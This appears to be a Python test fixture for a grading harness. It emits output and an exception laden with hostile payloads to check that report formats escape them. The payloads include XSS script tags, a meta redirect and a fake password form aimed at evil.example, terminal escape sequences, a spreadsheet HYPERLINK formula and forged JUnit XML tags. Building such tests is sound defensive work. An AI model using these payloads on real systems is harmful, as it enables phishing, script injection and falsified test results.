# verdict: runtime_error
# attack: an exception whose type name, message and traceback, and printed output, carry HTML, XML, Markdown, terminal escapes, lone surrogates and bytes that are not UTF-8
# stopped by: the trust boundary replaces lone surrogates; every format escapes or shows the rest as text
# base: reference
# outputs: hostile

import sys

HOSTILE = ('<script>alert(1)</script><img src=x onerror=alert(2)>'
           '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
           '<form action="https://evil.example/"><input name=pw><button>log in</button></form> '
           ']]> ``` | \x1b[31mRED\x1b[0m \r\x07 \ud800 \udcff =HYPERLINK("https://evil.example") '
           '</failure></testcase><testcase name="forged"/>')


class Solution(Solution):
    def compute_activation_stats(self, model, x):
        sys.stdout.write(HOSTILE.encode("utf-8", "replace").decode() + "\n")
        sys.stdout.flush()
        sys.stdout.buffer.write(b"raw \xff\xfe\xc3 \x1b]0;owned\x07 bytes\n")
        sys.stdout.buffer.flush()
        raise type(HOSTILE[:50], (ValueError,), {})(HOSTILE)
